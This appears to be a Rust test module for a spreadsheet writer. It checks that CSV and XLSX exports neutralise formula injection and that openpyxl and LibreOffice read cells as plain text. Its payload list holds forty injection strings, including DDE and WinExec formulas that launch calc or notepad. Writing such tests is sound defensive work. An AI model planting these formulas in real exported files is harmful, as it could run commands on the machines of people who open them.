//! What others read in our files: programs that nobody here wrote.

use std::{fs, io::Cursor, path::Path, process::Command};

use super::{CsvChoice, Form, Sheet, tests::sheet, writer};
use crate::table::Cell;

/// Forty texts that a spreadsheet might run, collected from advice on formula injection.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=HYPERLINK(\"https://example.org/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://example.org\")",
    "=IMPORTXML(\"https://example.org\",\"//a\")",
    "=IMPORTDATA(\"https://example.org\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=INDIRECT(\"A1\")",
    "=EXEC(\"calc\")",
    "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",1)",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    " =1+1",
    "   +1+1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{2003}@SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
    "=1+1\",=2+2",
    "a\r\n=1+1",
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "'=1+1",
];

const PYTHON: &str = "import json, sys, openpyxl\n\
    book = openpyxl.load_workbook(sys.argv[1])\n\
    sheet = book.worksheets[0]\n\
    rows = [[[c.data_type, c.value] for c in row] for row in sheet.iter_rows()]\n\
    print(json.dumps({'frozen': sheet.freeze_panes, 'language': book.properties.language, 'rows': rows}))\n";

fn file(folder: &Path, form: Form, sheet: &Sheet, rows: &[Vec<Cell>]) -> std::path::PathBuf {
    let mut out = Cursor::new(Vec::new());
    let mut to = writer(form, sheet, &mut out).unwrap();
    for row in rows {
        to.row(row).unwrap();
    }
    to.finish().unwrap();
    let path = folder.join(format!("file.{}", form.ending()));
    fs::write(&path, out.into_inner()).unwrap();
    path
}

fn rows() -> Vec<Vec<Cell>> {
    let texts = PAYLOADS.iter().zip(0_u32..);
    texts
        .map(|(text, n)| vec![(*text).into(), n.into(), (f64::from(n) / 8.0).into(), Cell::Empty])
        .collect()
}

/// What a cell becomes in XML, which has no way to say some characters.
fn sayable(text: &str) -> String {
    text.chars().map(|one| if one == '\0' { '\u{fffd}' } else { one }).collect()
}

fn folder(name: &str) -> std::path::PathBuf {
    let folder = std::env::temp_dir().join(format!("eighteen-{name}-{}", std::process::id()));
    fs::create_dir_all(&folder).unwrap();
    folder
}

#[test]
fn no_cell_of_a_csv_begins_like_a_formula() {
    let folder = folder("formula");
    let path =
        file(&folder, Form::Csv(CsvChoice::default()), &sheet(&["a", "b", "c", "d"]), &rows());
    let mut reader = csv::Reader::from_path(path).unwrap();
    let texts: Vec<String> = reader.records().map(|row| row.unwrap()[0].to_owned()).collect();
    assert_eq!(texts.len(), PAYLOADS.len());
    for (text, payload) in texts.iter().zip(PAYLOADS) {
        let first = text.trim_start().chars().next().unwrap();
        assert!(!"=+-@＝＋－＠\t\r\n\0".contains(first), "{payload:?} came back as {text:?}");
        assert_eq!(
            text.strip_prefix('\'').unwrap_or(text),
            payload.strip_prefix('\'').unwrap_or(payload)
        );
    }
    let _ = fs::remove_dir_all(folder);
}

#[test]
fn openpyxl_reads_the_workbook_as_it_was_meant() {
    let folder = folder("openpyxl");
    let path = file(&folder, Form::Xlsx, &sheet(&["a", "b", "c", "d"]), &rows());
    let ran = Command::new("/usr/bin/python3").args(["-c", PYTHON]).arg(&path).output();
    let said = ran.ok().filter(|ran| ran.status.success()).map(|ran| ran.stdout);
    let _ = fs::remove_dir_all(&folder);
    let Some(said) = said else {
        println!("not checked: python3 with openpyxl is not installed");
        return;
    };
    let book: serde_json::Value = serde_json::from_slice(&said).unwrap();
    assert_eq!((&book["frozen"], &book["language"]), (&"A2".into(), &"en-GB".into()));
    let read = book["rows"].as_array().unwrap();
    assert_eq!(read.len(), PAYLOADS.len() + 1);
    for ((row, payload), n) in read[1..].iter().zip(PAYLOADS).zip(0_u32..) {
        let kind = &row[0][0];
        assert!(kind == "s" || kind == "inlineStr", "{payload:?} is {kind}");
        let value = row[0][1].as_str().unwrap().replace("\r\n", "\n").replace('\r', "\n");
        let meant = sayable(payload).replace("\r\n", "\n").replace('\r', "\n");
        assert_eq!(value, meant, "{payload:?}");
        assert_eq!(
            (row[1][1].as_f64(), row[2][1].as_f64()),
            (Some(f64::from(n)), Some(f64::from(n) / 8.0))
        );
        assert!(row[1][0] == "n" && row[3][1].is_null());
    }
}

#[test]
fn libreoffice_opens_the_workbook_and_finds_what_the_csv_says() {
    if Command::new("soffice").arg("--version").output().is_err() {
        println!("not checked: LibreOffice is not installed");
        return;
    }
    let folder = folder("libreoffice");
    let plain: Vec<Vec<Cell>> = vec![
        vec!["Maya, \"M\"".into(), 7_u32.into(), 0.125.into(), Cell::Empty],
        vec!["Žofie\nĎuričková".into(), 0_u32.into(), (-1.5).into(), "مايا".into()],
        vec!["_x0041_".into(), 12_345_678_u32.into(), 3.25.into(), " a ".into()],
    ];
    let sheet = sheet(&["name", "count", "share", "note"]);
    let xlsx = file(&folder, Form::Xlsx, &sheet, &plain);
    let ours = fs::read(file(&folder, Form::Csv(CsvChoice::default()), &sheet, &plain)).unwrap();
    let into = folder.join("read");
    let ran = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}", folder.join("profile").display()))
        .args([
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
        ])
        .arg(&into)
        .arg(&xlsx)
        .output()
        .unwrap();
    let theirs = fs::read(into.join("file.csv"));
    let _ = fs::remove_dir_all(&folder);
    let theirs = theirs.unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&ran.stderr)));
    let read = |bytes: &[u8]| -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
    };
    assert_eq!(read(&theirs), read(&ours));
}
